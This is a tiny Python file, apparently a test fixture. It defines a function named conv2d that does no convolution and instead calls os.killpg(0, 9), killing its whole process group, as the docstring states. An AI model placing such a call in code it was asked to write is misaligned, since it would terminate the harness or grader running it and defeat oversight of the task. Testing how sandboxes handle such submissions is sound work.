"""Kills its process group."""

import os


def conv2d(x, kernel, stride=1, padding=0):
    os.killpg(0, 9)
